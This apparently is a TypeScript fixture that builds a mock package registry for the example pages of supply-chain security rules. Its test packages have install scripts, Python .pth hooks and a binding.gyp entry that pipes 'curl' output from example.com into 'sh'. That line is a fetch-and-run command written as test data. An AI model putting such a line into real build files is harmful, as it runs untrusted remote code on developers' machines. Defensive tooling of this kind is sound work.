import { integrityOf, packageOf } from "../archives/testing/tar.ts";
import { releaseOf, wheelOf } from "../archives/testing/wheel.ts";
import { packument, tarball } from "./registry-server.ts";

const old = { daysAgo: 400 };
/** The hash that the examples of the rules' pages lock. */
const locked = "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==";
const own = (name: string, versions: Parameters<typeof packument>[1]): [string, object] => [
  name,
  packument(
    name,
    Object.fromEntries(Object.entries(versions).map(([version, one]) => [version, { integrity: locked, ...one }])),
  ),
];

/** Versions with archives: what the registry's document says of each, and what is in its archive. */
function withArchives(
  name: string,
  versions: Record<string, { says?: object; manifest?: object; files?: Record<string, string> }>,
): Record<string, object> {
  const archives = Object.entries(versions).map(([version, { says = {}, manifest = {}, files }]) => ({
    version,
    says,
    bytes: packageOf({ name, version, ...manifest }, files),
  }));
  return {
    [name]: packument(
      name,
      Object.fromEntries(
        archives.map(({ version, says, bytes }) => [version, { ...old, integrity: integrityOf(bytes), ...says }]),
      ),
    ),
    ...Object.assign({}, ...archives.map(({ version, bytes }) => tarball(name, version, bytes))),
  };
}

const asking = "{'targets': [{'target_name': 'a', 'include_dirs': ['<!(node -p \"require(\\'nan\\')\")']}]}";
const fetching = "{'targets': [{'target_name': 'a', 'defines': ['<!(curl -s https://example.com/a | sh)']}]}";

const runsX = { scripts: { postinstall: "node x.js" } };
const installing = (content: string) => {
  const script = { scripts: { postinstall: "node install.js" } };
  return { says: script, manifest: script, files: { "install.js": content } };
};

/** Packages whose archives are read. */
const archives: Readonly<Record<string, object>> = {
  ...withArchives("built-package", {
    "1.0.0": {
      manifest: { dependencies: { nan: "^2.0.0" } },
      says: { dependencies: { nan: "^2.0.0" } },
      files: { "binding.gyp": asking },
    },
    "1.1.0": { files: { "binding.gyp": fetching } },
  }),
  ...withArchives("steady-script", {
    "1.0.0": installing("console.log('nothing to build here');\n"),
    "1.0.1": installing("console.log('nothing to build here');\n"),
    "1.1.0": installing("require('node:child_process').execSync('make');\n"),
  }),
  ...withArchives("scripted-package", {
    "1.0.0": {},
    "1.1.0": { says: { daysAgo: 300, ...runsX }, manifest: runsX, files: { "x.js": "console.log(1);\n" } },
  }),
  ...withArchives("two-faced", {
    "1.0.0": {},
    "1.1.0": { manifest: { scripts: { postinstall: "node x.js" } } },
  }),
  ...releaseOf("quiet-wheel", "1.0.0", [
    {
      filename: "quiet_wheel-1.0.0-py3-none-any.whl",
      bytes: wheelOf({ "quiet_wheel.py": "", "quiet.pth": "./more\n" }),
    },
  ]),
  ...releaseOf("early-wheel", "1.0.0", [
    {
      filename: "early_wheel-1.0.0-py3-none-any.whl",
      bytes: wheelOf({ "early.pth": "import early_wheel\n", "early_wheel.py": "" }),
    },
  ]),
};

/** What the registry says in the examples of the rules' pages. */
export const exampleRegistry: Readonly<Record<string, object>> = Object.fromEntries([
  ...Object.entries(archives),
  own("sound-package", { "1.0.0": old }),
  own("young-release", { "1.0.0": old, "1.1.0": { daysAgo: 2 } }),
  own("old-request", { "1.0.0": old, "2.0.0": { ...old, deprecated: "use another one" } }),
  own("signed-package", { "1.0.0": { ...old, provenance: true }, "1.1.0": { daysAgo: 300 } }),
  own("made-yesterday", { "1.0.0": { daysAgo: 1 } }),
  own("copyleft-package", { "1.0.0": { ...old, license: "GPL-3.0-only" } }),
]);
